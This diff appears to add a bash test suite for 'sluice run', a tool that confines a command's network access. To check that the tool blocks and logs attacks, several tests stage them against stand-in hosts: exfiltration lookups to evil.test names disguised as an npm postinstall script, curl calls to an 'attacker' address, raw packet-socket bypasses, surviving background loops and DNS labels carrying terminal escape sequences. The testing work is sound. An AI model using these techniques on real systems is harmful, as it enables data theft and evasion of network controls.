@@ -1,0 +1,257 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: GPL-3.0-or-later
+# shellcheck disable=SC1091,SC2016,SC2034,SC2209,SC2329
+# `sluice run`: exit statuses, what it prints, events, audit, whose rights the command has, what is left afterwards.
+. "$(dirname "$0")/lib.sh"
+bed
+export CA
+: > "$T/events"
+SUDO=(env SUDO_UID=65534 SUDO_GID=65534 SUDO_USER=nobody)
+
+run() { h c "${SUDO[@]}" "$SLUICE" run "$@" 2> "$T/err" || { local got=$? && cat "$T/err" >> "$T/err.all" && return $got; }; }
+run_root() { h c env -u SUDO_UID "$SLUICE" run "$@" 2> "$T/err"; }
+said_line() { grep -Eq -- "$1" "$T/err" || { echo "standard error lacks: $1" && cat "$T/err" && return 1; }; }
+said_not() { if grep -E -- "$1" "$T/err"; then die "standard error holds: $1"; fi; }
+
+statuses() {
+    status 0 run -- true
+    status 7 run -- sh -c 'exit 7'
+    status 127 run -- no-such-command-here
+    : > "$T/plain"
+    chmod 644 "$T/plain"
+    status 126 run -- "$T/plain"
+    status 143 run -- sh -c 'kill -TERM $$'
+    status 125 run --no-such-option -- true
+    status 125 run --allow 'https://bad name/' -- true
+    status 125 run -p "$T/no-such-file" -- true
+    status 125 run
+}
+fail_on() {
+    status 3 run --fail-on deny -- sh -c 'getent hosts denied.test || true'
+    status 0 run -- sh -c 'getent hosts denied.test || true'
+    status 0 run --fail-on alert -- sh -c 'getent hosts denied.test || true'
+    status 3 run --fail-on alert -- sh -c 'ping -c 1 -W 1 198.18.3.66 > /dev/null 2>&1 || true'
+    status 5 run --fail-on deny -- sh -c 'getent hosts denied.test; exit 5'
+    status 0 run --fail-on deny,alert --allow allowed.test -- curl -sS --cacert "$CA" -o /dev/null https://allowed.test/hello
+}
+allows() {
+    run --allow allowed.test -- curl -sS --cacert "$CA" https://allowed.test/hello | grep 'hello from allowed.test'
+    run --allow '*.wild.test' --allow http://mirror.test -- sh -c "curl -sS --cacert $CA https://a.wild.test/hello && curl -sS http://mirror.test/hello" > "$T/out"
+    [ "$(grep -c hello "$T/out")" = 2 ]
+    h c "${SUDO[@]}" env SLUICE_ALLOW=$'# what the build needs\nallowed.test\n\nhttp://mirror.test # plain\n' "$SLUICE" run -- \
+        sh -c "curl -sS --cacert $CA https://allowed.test/hello && curl -sS http://mirror.test/hello" 2> "$T/err" > "$T/out"
+    [ "$(grep -c hello "$T/out")" = 2 ]
+    printf 'version: 1\nprofiles:\n  base: { allow: [allowed.test] }\n  node: { extends: base, allow: [mirror.test] }\n' > "$T/run.yaml"
+    run -p "$T/run.yaml" --profile node -- curl -sS --cacert "$CA" https://allowed.test/hello | grep hello
+    fails run -p "$T/run.yaml" --profile base -- curl -sS -k https://mirror.test/hello
+}
+lines() {
+    run --allow allowed.test -- sh -c "curl -sS --cacert $CA -o /dev/null https://allowed.test/hello; getent hosts payload.evil.test; curl -s --max-time 3 http://198.18.3.66/" || true
+    said_line '^sluice: deny +dns +payload\.evil\.test (A|AAAA) .*by getent'
+    said_line '^sluice: deny +tcp +198\.18\.3\.66:80 .*by curl \(pid [0-9]+\)'
+    said_line '^sluice: run finished: 1 connections? to 1 names? allowed, [0-9]+ refused \([0-9]+ names?\)'
+    said_line 'To allow:.*--allow payload\.evil\.test'
+    said_not '--allow 198\.18\.3\.66'
+}
+events_file() {
+    rm -f "$T/run.events"
+    run --events "$T/run.events" --allow allowed.test -- sh -c "curl -sS --cacert $CA -o /dev/null https://allowed.test/hello; getent hosts x.evil.test; ping -c 1 -W 1 198.18.3.66 > /dev/null" || true
+    [ "$(stat -c %a "$T/run.events")" = 600 ]
+    jq -e . "$T/run.events" > /dev/null
+    # Each line one object; a refusal names process and reason; the allowed flow has its counts.
+    [ "$(jq -s length "$T/run.events")" = "$(wc -l < "$T/run.events")" ]
+    jq -se 'all(."@timestamp" and .ecs.version and .event.action and .event.reason and .sluice.verdict)' "$T/run.events"
+    jq -se 'any(.dns.question.name == "x.evil.test" and .sluice.verdict == "deny" and .process.name == "getent" and .process.pid > 0)' "$T/run.events"
+    jq -se 'any(.sluice.verdict == "deny" and .destination.ip == "198.18.3.66" and .event.kind == "alert")' "$T/run.events"
+    jq -se 'any(.event.action == "connection-end" and .tls.client.server_name == "allowed.test" and .source.bytes > 300 and .destination.bytes > 300)' "$T/run.events"
+}
+# A name is what the wire says; a terminal must not obey it.
+hostile_names() {
+    rm -f "$T/run.events"
+    run --events "$T/run.events" -- "$PYTHON" -c '
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for label in b"\x1b[2J\nsluice: allow", b"quote\"and\\backslash", bytes(range(1, 32)):
+    s.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x04evil\x04test\0\0\1\0\1", ("198.18.2.53", 53))
+' || true
+    fails grep -aqP '[\x00-\x08\x0b-\x1f\x7f-\xff]' "$T/err"
+    fails grep -aq '^sluice: allow' "$T/err"
+    fails grep -aqP '[\x00-\x08\x0b-\x1f\x7f-\xff]' "$T/run.events"
+    jq -e . "$T/run.events" > /dev/null
+    grep -q dns_name_form "$T/run.events"
+}
+packages() {
+    rm -f "$T/run.events"
+    run --events "$T/run.events" -- env npm_package_name=left-pad npm_package_version=1.3.0 npm_lifecycle_event=postinstall sh -c 'getent hosts stolen.evil.test' || true
+    said_line 'stolen\.evil\.test.*npm postinstall of left-pad'
+    jq -se 'any(.package.name == "left-pad" and .package.version == "1.3.0" and .package.type == "npm" and .sluice.package_claimed == true)' "$T/run.events"
+    run --events "$T/run.events" -- env CARGO_PKG_NAME=evil-sys CARGO_PKG_VERSION=0.1.0 CARGO_MANIFEST_DIR=/tmp sh -c 'getent hosts cargo.evil.test' || true
+    jq -se 'any(.package.name == "evil-sys" and .package.type == "cargo")' "$T/run.events"
+}
+secrets() {
+    rm -f "$T/run.events"
+    run --events "$T/run.events" -- curl -s --max-time 3 -H 'Authorization: Bearer abcdefghijklmnop0123456789' --user someone:hunter2secret http://198.18.3.66/ || true
+    fails grep -E 'abcdefghijklmnop|hunter2secret' "$T/run.events" "$T/err"
+}
+audit() {
+    local n
+    n=$(nonce)
+    run --audit --events "$T/run.events" --allow allowed.test -- sh -c "curl -sS --cacert $CA https://allowed.test/hello; curl -sS --cacert $CA https://mirror.test/hello -k; curl -s http://198.18.3.66/$n; getent hosts word-$n.evil.test; getent hosts cdn.test" > "$T/out"
+    grep 'hello from allowed.test' "$T/out"
+    grep 'hello from mirror.test' "$T/out"
+    grep 'the attacker thanks you' "$T/out"
+    expect_arrived "GET /$n"
+    expect_arrived "word-$n"
+    said_line 'would_deny.*mirror\.test'
+    said_line '--allow mirror\.test'
+    said_line '--allow cdn\.test'
+    said_not '--allow (tcp://)?198\.18\.3\.66'
+    jq -se 'any(.sluice.verdict == "would_deny") and all(.sluice.verdict != "deny")' "$T/run.events"
+    # What it suggested suffices.
+    # shellcheck disable=SC2046
+    run $(grep -o -- '--allow mirror[^ ]*' "$T/err" | head -1) -- curl -sS -k https://mirror.test/hello | grep 'hello from mirror.test'
+}
+rights() {
+    run --allow allowed.test -- sh -c 'id -u; grep -E "^(Cap(Eff|Prm|Inh|Amb|Bnd)|NoNewPrivs)" /proc/self/status' > "$T/out"
+    grep -x 65534 "$T/out"
+    grep -E 'CapEff:.0{16}' "$T/out"
+    grep -E 'CapPrm:.0{16}' "$T/out"
+    grep -E 'CapAmb:.0{16}' "$T/out"
+    grep -E 'NoNewPrivs:.1' "$T/out"
+    fails run -- sh -c "echo 0 > $CGROUPS/cgroup.procs"
+    fails run -- sh -c "mkdir $CGROUPS/mine"
+    fails run -- sh -c 'for f in /run/user/*/bus /run/dbus/system_bus_socket /run/docker.sock /run/systemd/resolve/io.systemd.Resolve; do [ -S $f ] && exit 0; done; exit 1'
+}
+as_root() {
+    run_root --as-root --allow allowed.test -- sh -c "id -u; curl -sS --cacert $CA https://allowed.test/hello" > "$T/out" || { cat "$T/err" && return 1; }
+    grep -x 0 "$T/out"
+    grep 'hello from allowed.test' "$T/out"
+    run_root --allow allowed.test -- sh -c "id -u; curl -sS -4 --cacert $CA https://allowed.test/hello && curl -sS -6 --cacert $CA https://allowed.test/hello" > "$T/out"
+    [ "$(grep -c 'hello from allowed.test' "$T/out")" = 2 ]
+}
+isolated() {
+    run --isolate --allow allowed.test -- sh -c "curl -sS -4 --cacert $CA https://allowed.test/hello; ls /sys/class/net | tr '\n' ' '" > "$T/out" || { cat "$T/err" && return 1; }
+    grep 'hello from allowed.test' "$T/out"
+    quick 4000 fails run --isolate --allow allowed.test -- curl -s --max-time 3 http://198.18.3.66/
+    said_line 'deny +tcp +198\.18\.3\.66:80'
+    said_line 'by curl'
+}
+# Packet sockets skip the output hook of their own namespace: as root the command is in one of its own.
+raw_frame() {
+    h c "$@" "$PYTHON" -c '
+import socket, struct, sys
+name = [i for _, i in socket.if_nameindex() if i != "lo"][0]
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind((name, 0))
+mac = b"\xff" * 6
+payload = sys.argv[1].encode()
+udp = struct.pack(">HHHH", 4444, 9999, 8 + len(payload), 0) + payload
+def ip(total, check=0):
+    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, total, 1, 0, 64, 17, check, socket.inet_aton(sys.argv[3]), socket.inet_aton("198.18.3.66"))
+head = ip(20 + len(udp)); words = sum(struct.unpack(">10H", head)); words = (words & 0xffff) + (words >> 16); words = (words & 0xffff) + (words >> 16)
+s.send(bytes.fromhex(sys.argv[2].replace(":", "")) + s.getsockname()[4] + b"\x08\0" + ip(20 + len(udp), ~words & 0xffff) + udp)' "$N" "$GATEWAY_MAC" 198.18.1.2
+}
+packet_socket() {
+    GATEWAY_MAC=$(h g cat /sys/class/net/gc/address)
+    N=$(nonce)
+    raw_frame env
+    expect_arrived "$N" # without the gate it leaves
+    N=$(nonce)
+    fails raw_frame "${SUDO[@]}" "$SLUICE" run --
+    expect_not_arrived "$N"
+    N=$(nonce)
+    raw_frame env -u SUDO_UID "$SLUICE" run --as-root -- || true
+    expect_not_arrived "$N"
+}
+inherited_socket() {
+    # A socket made before the command's cgroup is not matched by it: it must not come in.
+    local n
+    n=$(nonce)
+    h c bash -c "exec 5<> /dev/udp/198.18.3.66/9999; exec ${SUDO[*]} $SLUICE run -- bash -c 'echo $n >&5'" 2> "$T/err" || true
+    expect_not_arrived "$n"
+}
+standard_streams() {
+    echo through | run -- cat | grep -x through
+    run -- sh -c 'echo to-stderr >&2' && said_line '^to-stderr'
+    [ "$(cd /usr && run -- pwd)" = "$PWD" ] || [ "$(h c sh -c "cd /usr && ${SUDO[*]} $SLUICE run -- pwd" 2> "$T/err")" = /usr ]
+}
+survivors() {
+    # What the command leaves behind ends with it.
+    local n
+    n=$(nonce)
+    run -- sh -c "setsid sh -c 'sleep 1; while :; do curl -s --max-time 1 http://198.18.3.66/$n; sleep 0.2; done' > /dev/null 2>&1 & sleep 0.2"
+    sleep 2
+    expect_not_arrived "$n"
+    fails pgrep -f "198.18.3.66/$n"
+}
+killed() {
+    # The foreground process is killed: the scope's processes end before the rules go.
+    local n pid
+    n=$(nonce)
+    h c "${SUDO[@]}" "$SLUICE" run -- sh -c "while :; do curl -s --max-time 1 http://198.18.3.66/$n; sleep 0.1; done" > /dev/null 2>&1 &
+    pid=$!
+    eventually 4 pgrep -f "while :; do curl.*$n" > /dev/null
+    kill -KILL $pid
+    wait $pid || true
+    eventually 5 sh -c "! pgrep -f 'while :; do curl.*$n' > /dev/null"
+    expect_not_arrived "$n"
+    eventually 5 nothing_left
+}
+concurrent() {
+    local i pids=()
+    for i in 1 2 3; do
+        h c "${SUDO[@]}" "$SLUICE" run --allow allowed.test -- sh -c "for i in 1 2 3 4; do curl -sS --cacert $CA https://allowed.test/hello || exit 1; curl -s -k https://mirror.test/hello && exit 1; done; exit 0" > "$T/one.$i" 2>&1 &
+        pids+=($!)
+        h c "${SUDO[@]}" "$SLUICE" run --allow mirror.test -- sh -c "for i in 1 2 3 4; do curl -sS -k https://mirror.test/hello || exit 1; curl -s -k https://allowed.test/hello && exit 1; done; exit 0" > "$T/two.$i" 2>&1 &
+        pids+=($!)
+    done
+    for i in "${pids[@]}"; do wait "$i" || { tail -n 5 "$T"/one.* "$T"/two.* && return 1; }; done
+}
+beside_a_gate() {
+    FORM=output policy "$T/policy.yaml" allowed.test
+    timeout 20 nsenter -t "${HOST[c]}" -n -m -- "$SLUICE" gate -c "$T/policy.yaml" > "$T/gate.log" 2>&1 &
+    local gate=$!
+    eventually 10 h c "$SLUICE" status > /dev/null 2>&1
+    run --allow mirror.test -- curl -sS -k https://mirror.test/hello | grep hello
+    FORM=output fetch https://allowed.test/hello | grep hello
+    kill -TERM $gate
+    wait $gate || true
+    h c "$SLUICE" down
+}
+many_names() { run --allow 'store{0..19}.test' --allow '{allowed,mirror}.test' -- curl -sS --cacert "$CA" https://allowed.test/hello | grep hello; }
+start_time() {
+    local start took
+    start=$(now_ms)
+    for _ in 1 2 3 4 5; do run -- true; done
+    took=$((($(now_ms) - start) / 5))
+    echo "sluice run -- true takes $took ms"
+    [ $took -lt $((1000 * ${SLOW:-1})) ]
+}
+nothing_left() {
+    ! pgrep --ns "${HOST[c]}" --nslist net '^sluice' > /dev/null && ! h c sh -c 'nft list tables | grep -q sluice' && ! ls -d "$CGROUPS"/sluice-run-* > /dev/null 2>&1 &&
+        ! h c sh -c 'ls /sys/class/net; ip -o link' | grep -q sluice
+}
+leaves_nothing() { eventually 5 nothing_left || { pgrep -l --ns "${HOST[c]}" --nslist net '^sluice'; h c nft list tables; ls -d "$CGROUPS"/sluice-run-*; return 1; }; }
+
+check "exit statuses: the command's, 125, 126, 127" statuses
+check "exit status 3 by --fail-on" fail_on
+check "--allow, SLUICE_ALLOW, -p and --profile" allows
+check "braces and many --allow" many_names
+check "the lines on standard error" lines
+check "the events file: 0600, valid, complete" events_file
+check "hostile names do not reach the terminal or the file raw" hostile_names
+check "a package's script is named: npm, cargo" packages
+check "secrets of a command line are masked" secrets
+check "audit changes nothing and suggests what suffices" audit
+check "under sudo: the caller's uid, no capability, masked ways out" rights
+check "as root" as_root
+check "--isolate" isolated
+check "packet sockets" packet_socket
+check "an inherited socket is closed" inherited_socket
+check "standard streams and working directory" standard_streams
+check "what the command leaves behind ends with it" survivors
+check "the foreground process killed: the job ends, then the rules" killed
+check "six runs at once, each with its own policy" concurrent
+check "a run beside a gate" beside_a_gate
+check "it starts fast" start_time
+check "nothing is left" leaves_nothing
+finish
